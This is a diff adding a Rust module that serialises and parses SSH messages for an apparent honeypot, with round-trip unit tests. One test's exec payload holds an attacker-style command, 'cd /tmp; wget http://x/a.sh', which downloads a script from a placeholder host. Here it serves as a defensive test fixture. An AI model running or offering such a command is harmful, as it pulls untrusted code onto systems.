@@ -1,0 +1,516 @@
+//! SSH message encoding/decoding for the subset the honeypot dialogue uses.
+
+use crate::wire::*;
+use crate::SshError;
+use bytes::{Buf, Bytes, BytesMut};
+
+/// Message numbers (RFC 4250 §4.1.2).
+pub mod num {
+    pub const DISCONNECT: u8 = 1;
+    pub const SERVICE_REQUEST: u8 = 5;
+    pub const SERVICE_ACCEPT: u8 = 6;
+    pub const KEXINIT: u8 = 20;
+    pub const NEWKEYS: u8 = 21;
+    pub const KEXDH_INIT: u8 = 30;
+    pub const KEXDH_REPLY: u8 = 31;
+    pub const USERAUTH_REQUEST: u8 = 50;
+    pub const USERAUTH_FAILURE: u8 = 51;
+    pub const USERAUTH_SUCCESS: u8 = 52;
+    pub const CHANNEL_OPEN: u8 = 90;
+    pub const CHANNEL_OPEN_CONFIRMATION: u8 = 91;
+    pub const CHANNEL_OPEN_FAILURE: u8 = 92;
+    pub const CHANNEL_DATA: u8 = 94;
+    pub const CHANNEL_EOF: u8 = 96;
+    pub const CHANNEL_CLOSE: u8 = 97;
+    pub const CHANNEL_REQUEST: u8 = 98;
+    pub const CHANNEL_SUCCESS: u8 = 99;
+    pub const CHANNEL_FAILURE: u8 = 100;
+}
+
+/// Algorithm negotiation lists carried by `SSH_MSG_KEXINIT`.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct KexInit {
+    /// Anti-replay cookie.
+    pub cookie: [u8; 16],
+    /// Key exchange algorithm preferences.
+    pub kex_algorithms: Vec<String>,
+    /// Host key algorithm preferences.
+    pub server_host_key_algorithms: Vec<String>,
+    /// Cipher preferences, client→server.
+    pub encryption_c2s: Vec<String>,
+    /// Cipher preferences, server→client.
+    pub encryption_s2c: Vec<String>,
+    /// MAC preferences, client→server.
+    pub mac_c2s: Vec<String>,
+    /// MAC preferences, server→client.
+    pub mac_s2c: Vec<String>,
+}
+
+impl KexInit {
+    /// The lists this implementation advertises.
+    pub fn default_with_cookie(cookie: [u8; 16]) -> Self {
+        Self {
+            cookie,
+            kex_algorithms: vec!["sim-nonce-sha256".into()],
+            server_host_key_algorithms: vec!["ssh-ed25519".into()],
+            encryption_c2s: vec!["none".into()],
+            encryption_s2c: vec!["none".into()],
+            mac_c2s: vec!["sim-sha256-16".into()],
+            mac_s2c: vec!["sim-sha256-16".into()],
+        }
+    }
+}
+
+/// The SSH messages the dialogue state machines exchange.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Message {
+    /// Orderly disconnect.
+    Disconnect {
+        /// Reason code (RFC 4253 §11.1).
+        code: u32,
+        /// Human-readable description.
+        description: String,
+    },
+    /// `SSH_MSG_SERVICE_REQUEST`.
+    ServiceRequest(String),
+    /// `SSH_MSG_SERVICE_ACCEPT`.
+    ServiceAccept(String),
+    /// Algorithm negotiation.
+    KexInit(KexInit),
+    /// Keys taken into use.
+    NewKeys,
+    /// Client key-exchange contribution (a nonce in the stub KEX).
+    KexdhInit {
+        /// Client ephemeral value.
+        e: Bytes,
+    },
+    /// Server key-exchange reply.
+    KexdhReply {
+        /// Server host key blob.
+        host_key: Bytes,
+        /// Server ephemeral value.
+        f: Bytes,
+        /// Signature over the exchange hash.
+        signature: Bytes,
+    },
+    /// Password authentication attempt (`method` fixed to "password") or a
+    /// "none" probe when `password` is `None`.
+    UserauthRequest {
+        /// Login name.
+        username: String,
+        /// Requested service, normally `ssh-connection`.
+        service: String,
+        /// Password, or `None` for the `none` method.
+        password: Option<String>,
+    },
+    /// Authentication rejected.
+    UserauthFailure {
+        /// Methods that can continue.
+        methods: Vec<String>,
+    },
+    /// Authentication accepted.
+    UserauthSuccess,
+    /// Open a channel.
+    ChannelOpen {
+        /// Channel type, e.g. `session`.
+        kind: String,
+        /// Sender's channel id.
+        sender: u32,
+        /// Initial window size.
+        window: u32,
+        /// Maximum packet size.
+        max_packet: u32,
+    },
+    /// Channel open accepted.
+    ChannelOpenConfirmation {
+        /// Recipient's channel id (the opener's).
+        recipient: u32,
+        /// Sender's channel id.
+        sender: u32,
+        /// Initial window size.
+        window: u32,
+        /// Maximum packet size.
+        max_packet: u32,
+    },
+    /// Channel open rejected.
+    ChannelOpenFailure {
+        /// Recipient's channel id.
+        recipient: u32,
+        /// Reason code.
+        code: u32,
+    },
+    /// Channel payload bytes.
+    ChannelData {
+        /// Recipient's channel id.
+        recipient: u32,
+        /// Data.
+        data: Bytes,
+    },
+    /// No more data will be sent.
+    ChannelEof {
+        /// Recipient's channel id.
+        recipient: u32,
+    },
+    /// Channel closed.
+    ChannelClose {
+        /// Recipient's channel id.
+        recipient: u32,
+    },
+    /// Channel request: `exec`, `shell`, `exit-status`, ….
+    ChannelRequest {
+        /// Recipient's channel id.
+        recipient: u32,
+        /// Request type.
+        kind: String,
+        /// Whether the peer wants SUCCESS/FAILURE.
+        want_reply: bool,
+        /// Request-specific payload (e.g. the command line for `exec`,
+        /// big-endian status for `exit-status`).
+        payload: Bytes,
+    },
+    /// Channel request succeeded.
+    ChannelSuccess {
+        /// Recipient's channel id.
+        recipient: u32,
+    },
+    /// Channel request failed.
+    ChannelFailure {
+        /// Recipient's channel id.
+        recipient: u32,
+    },
+}
+
+impl Message {
+    /// Serialises the message into a packet payload.
+    pub fn encode(&self) -> Bytes {
+        let mut b = BytesMut::new();
+        match self {
+            Message::Disconnect { code, description } => {
+                put_u8(&mut b, num::DISCONNECT);
+                put_u32(&mut b, *code);
+                put_string(&mut b, description.as_bytes());
+                put_string(&mut b, b""); // language tag
+            }
+            Message::ServiceRequest(name) => {
+                put_u8(&mut b, num::SERVICE_REQUEST);
+                put_string(&mut b, name.as_bytes());
+            }
+            Message::ServiceAccept(name) => {
+                put_u8(&mut b, num::SERVICE_ACCEPT);
+                put_string(&mut b, name.as_bytes());
+            }
+            Message::KexInit(k) => {
+                put_u8(&mut b, num::KEXINIT);
+                b.extend_from_slice(&k.cookie);
+                let lists = [
+                    &k.kex_algorithms,
+                    &k.server_host_key_algorithms,
+                    &k.encryption_c2s,
+                    &k.encryption_s2c,
+                    &k.mac_c2s,
+                    &k.mac_s2c,
+                ];
+                for list in lists {
+                    let names: Vec<&str> = list.iter().map(String::as_str).collect();
+                    put_name_list(&mut b, &names);
+                }
+                // compression c2s/s2c and languages c2s/s2c: fixed.
+                put_name_list(&mut b, &["none"]);
+                put_name_list(&mut b, &["none"]);
+                put_name_list(&mut b, &[]);
+                put_name_list(&mut b, &[]);
+                put_bool(&mut b, false); // first_kex_packet_follows
+                put_u32(&mut b, 0); // reserved
+            }
+            Message::NewKeys => {
+                put_u8(&mut b, num::NEWKEYS);
+            }
+            Message::KexdhInit { e } => {
+                put_u8(&mut b, num::KEXDH_INIT);
+                put_string(&mut b, e);
+            }
+            Message::KexdhReply { host_key, f, signature } => {
+                put_u8(&mut b, num::KEXDH_REPLY);
+                put_string(&mut b, host_key);
+                put_string(&mut b, f);
+                put_string(&mut b, signature);
+            }
+            Message::UserauthRequest { username, service, password } => {
+                put_u8(&mut b, num::USERAUTH_REQUEST);
+                put_string(&mut b, username.as_bytes());
+                put_string(&mut b, service.as_bytes());
+                match password {
+                    Some(pw) => {
+                        put_string(&mut b, b"password");
+                        put_bool(&mut b, false);
+                        put_string(&mut b, pw.as_bytes());
+                    }
+                    None => put_string(&mut b, b"none"),
+                }
+            }
+            Message::UserauthFailure { methods } => {
+                put_u8(&mut b, num::USERAUTH_FAILURE);
+                let names: Vec<&str> = methods.iter().map(String::as_str).collect();
+                put_name_list(&mut b, &names);
+                put_bool(&mut b, false);
+            }
+            Message::UserauthSuccess => {
+                put_u8(&mut b, num::USERAUTH_SUCCESS);
+            }
+            Message::ChannelOpen { kind, sender, window, max_packet } => {
+                put_u8(&mut b, num::CHANNEL_OPEN);
+                put_string(&mut b, kind.as_bytes());
+                put_u32(&mut b, *sender);
+                put_u32(&mut b, *window);
+                put_u32(&mut b, *max_packet);
+            }
+            Message::ChannelOpenConfirmation { recipient, sender, window, max_packet } => {
+                put_u8(&mut b, num::CHANNEL_OPEN_CONFIRMATION);
+                put_u32(&mut b, *recipient);
+                put_u32(&mut b, *sender);
+                put_u32(&mut b, *window);
+                put_u32(&mut b, *max_packet);
+            }
+            Message::ChannelOpenFailure { recipient, code } => {
+                put_u8(&mut b, num::CHANNEL_OPEN_FAILURE);
+                put_u32(&mut b, *recipient);
+                put_u32(&mut b, *code);
+                put_string(&mut b, b"open failed");
+                put_string(&mut b, b"");
+            }
+            Message::ChannelData { recipient, data } => {
+                put_u8(&mut b, num::CHANNEL_DATA);
+                put_u32(&mut b, *recipient);
+                put_string(&mut b, data);
+            }
+            Message::ChannelEof { recipient } => {
+                put_u8(&mut b, num::CHANNEL_EOF);
+                put_u32(&mut b, *recipient);
+            }
+            Message::ChannelClose { recipient } => {
+                put_u8(&mut b, num::CHANNEL_CLOSE);
+                put_u32(&mut b, *recipient);
+            }
+            Message::ChannelRequest { recipient, kind, want_reply, payload } => {
+                put_u8(&mut b, num::CHANNEL_REQUEST);
+                put_u32(&mut b, *recipient);
+                put_string(&mut b, kind.as_bytes());
+                put_bool(&mut b, *want_reply);
+                b.extend_from_slice(payload);
+            }
+            Message::ChannelSuccess { recipient } => {
+                put_u8(&mut b, num::CHANNEL_SUCCESS);
+                put_u32(&mut b, *recipient);
+            }
+            Message::ChannelFailure { recipient } => {
+                put_u8(&mut b, num::CHANNEL_FAILURE);
+                put_u32(&mut b, *recipient);
+            }
+        }
+        b.freeze()
+    }
+
+    /// Parses a packet payload into a message.
+    pub fn decode(payload: Bytes) -> Result<Message, SshError> {
+        let mut p = payload;
+        let tag = get_u8(&mut p)?;
+        let msg = match tag {
+            num::DISCONNECT => {
+                let code = get_u32(&mut p)?;
+                let description = get_utf8(&mut p)?;
+                let _lang = get_string(&mut p)?;
+                Message::Disconnect { code, description }
+            }
+            num::SERVICE_REQUEST => Message::ServiceRequest(get_utf8(&mut p)?),
+            num::SERVICE_ACCEPT => Message::ServiceAccept(get_utf8(&mut p)?),
+            num::KEXINIT => {
+                if p.remaining() < 16 {
+                    return Err(SshError::Decode("short KEXINIT cookie".into()));
+                }
+                let mut cookie = [0u8; 16];
+                cookie.copy_from_slice(&p.split_to(16));
+                let kex_algorithms = get_name_list(&mut p)?;
+                let server_host_key_algorithms = get_name_list(&mut p)?;
+                let encryption_c2s = get_name_list(&mut p)?;
+                let encryption_s2c = get_name_list(&mut p)?;
+                let mac_c2s = get_name_list(&mut p)?;
+                let mac_s2c = get_name_list(&mut p)?;
+                let _comp_c2s = get_name_list(&mut p)?;
+                let _comp_s2c = get_name_list(&mut p)?;
+                let _lang_c2s = get_name_list(&mut p)?;
+                let _lang_s2c = get_name_list(&mut p)?;
+                let _first = get_bool(&mut p)?;
+                let _reserved = get_u32(&mut p)?;
+                Message::KexInit(KexInit {
+                    cookie,
+                    kex_algorithms,
+                    server_host_key_algorithms,
+                    encryption_c2s,
+                    encryption_s2c,
+                    mac_c2s,
+                    mac_s2c,
+                })
+            }
+            num::NEWKEYS => Message::NewKeys,
+            num::KEXDH_INIT => Message::KexdhInit { e: get_string(&mut p)? },
+            num::KEXDH_REPLY => Message::KexdhReply {
+                host_key: get_string(&mut p)?,
+                f: get_string(&mut p)?,
+                signature: get_string(&mut p)?,
+            },
+            num::USERAUTH_REQUEST => {
+                let username = get_utf8(&mut p)?;
+                let service = get_utf8(&mut p)?;
+                let method = get_utf8(&mut p)?;
+                let password = match method.as_str() {
+                    "password" => {
+                        let _change = get_bool(&mut p)?;
+                        Some(get_utf8(&mut p)?)
+                    }
+                    "none" => None,
+                    other => {
+                        return Err(SshError::Decode(format!("unsupported auth method {other}")))
+                    }
+                };
+                Message::UserauthRequest { username, service, password }
+            }
+            num::USERAUTH_FAILURE => {
+                let methods = get_name_list(&mut p)?;
+                let _partial = get_bool(&mut p)?;
+                Message::UserauthFailure { methods }
+            }
+            num::USERAUTH_SUCCESS => Message::UserauthSuccess,
+            num::CHANNEL_OPEN => Message::ChannelOpen {
+                kind: get_utf8(&mut p)?,
+                sender: get_u32(&mut p)?,
+                window: get_u32(&mut p)?,
+                max_packet: get_u32(&mut p)?,
+            },
+            num::CHANNEL_OPEN_CONFIRMATION => Message::ChannelOpenConfirmation {
+                recipient: get_u32(&mut p)?,
+                sender: get_u32(&mut p)?,
+                window: get_u32(&mut p)?,
+                max_packet: get_u32(&mut p)?,
+            },
+            num::CHANNEL_OPEN_FAILURE => {
+                let recipient = get_u32(&mut p)?;
+                let code = get_u32(&mut p)?;
+                let _desc = get_string(&mut p)?;
+                let _lang = get_string(&mut p)?;
+                Message::ChannelOpenFailure { recipient, code }
+            }
+            num::CHANNEL_DATA => Message::ChannelData {
+                recipient: get_u32(&mut p)?,
+                data: get_string(&mut p)?,
+            },
+            num::CHANNEL_EOF => Message::ChannelEof { recipient: get_u32(&mut p)? },
+            num::CHANNEL_CLOSE => Message::ChannelClose { recipient: get_u32(&mut p)? },
+            num::CHANNEL_REQUEST => {
+                let recipient = get_u32(&mut p)?;
+                let kind = get_utf8(&mut p)?;
+                let want_reply = get_bool(&mut p)?;
+                let payload = p.copy_to_bytes(p.remaining());
+                Message::ChannelRequest { recipient, kind, want_reply, payload }
+            }
+            num::CHANNEL_SUCCESS => Message::ChannelSuccess { recipient: get_u32(&mut p)? },
+            num::CHANNEL_FAILURE => Message::ChannelFailure { recipient: get_u32(&mut p)? },
+            other => return Err(SshError::Decode(format!("unknown message number {other}"))),
+        };
+        Ok(msg)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn roundtrip(m: Message) {
+        let enc = m.encode();
+        let dec = Message::decode(enc).unwrap();
+        assert_eq!(dec, m);
+    }
+
+    #[test]
+    fn roundtrip_all_variants() {
+        roundtrip(Message::Disconnect { code: 11, description: "bye".into() });
+        roundtrip(Message::ServiceRequest("ssh-userauth".into()));
+        roundtrip(Message::ServiceAccept("ssh-userauth".into()));
+        roundtrip(Message::KexInit(KexInit::default_with_cookie([9u8; 16])));
+        roundtrip(Message::NewKeys);
+        roundtrip(Message::KexdhInit { e: Bytes::from_static(b"nonceA") });
+        roundtrip(Message::KexdhReply {
+            host_key: Bytes::from_static(b"hostkey"),
+            f: Bytes::from_static(b"nonceB"),
+            signature: Bytes::from_static(b"sig"),
+        });
+        roundtrip(Message::UserauthRequest {
+            username: "root".into(),
+            service: "ssh-connection".into(),
+            password: Some("vertex25ektks123".into()),
+        });
+        roundtrip(Message::UserauthRequest {
+            username: "phil".into(),
+            service: "ssh-connection".into(),
+            password: None,
+        });
+        roundtrip(Message::UserauthFailure { methods: vec!["password".into()] });
+        roundtrip(Message::UserauthSuccess);
+        roundtrip(Message::ChannelOpen {
+            kind: "session".into(),
+            sender: 0,
+            window: 1 << 20,
+            max_packet: 32_768,
+        });
+        roundtrip(Message::ChannelOpenConfirmation {
+            recipient: 0,
+            sender: 1,
+            window: 1 << 20,
+            max_packet: 32_768,
+        });
+        roundtrip(Message::ChannelOpenFailure { recipient: 0, code: 2 });
+        roundtrip(Message::ChannelData {
+            recipient: 0,
+            data: Bytes::from_static(b"uname -a\n"),
+        });
+        roundtrip(Message::ChannelEof { recipient: 0 });
+        roundtrip(Message::ChannelClose { recipient: 0 });
+        roundtrip(Message::ChannelRequest {
+            recipient: 0,
+            kind: "exec".into(),
+            want_reply: true,
+            payload: {
+                let mut b = BytesMut::new();
+                put_string(&mut b, b"cd /tmp; wget http://x/a.sh");
+                b.freeze()
+            },
+        });
+        roundtrip(Message::ChannelSuccess { recipient: 0 });
+        roundtrip(Message::ChannelFailure { recipient: 0 });
+    }
+
+    #[test]
+    fn unknown_message_number_is_decode_error() {
+        assert!(matches!(
+            Message::decode(Bytes::from_static(&[200])),
+            Err(SshError::Decode(_))
+        ));
+    }
+
+    #[test]
+    fn unsupported_auth_method_is_rejected() {
+        let mut b = BytesMut::new();
+        put_u8(&mut b, num::USERAUTH_REQUEST);
+        put_string(&mut b, b"root");
+        put_string(&mut b, b"ssh-connection");
+        put_string(&mut b, b"publickey");
+        assert!(matches!(Message::decode(b.freeze()), Err(SshError::Decode(_))));
+    }
+
+    #[test]
+    fn truncated_kexinit_is_decode_error() {
+        let mut b = BytesMut::new();
+        put_u8(&mut b, num::KEXINIT);
+        b.extend_from_slice(&[0u8; 8]); // half a cookie
+        assert!(matches!(Message::decode(b.freeze()), Err(SshError::Decode(_))));
+    }
+}
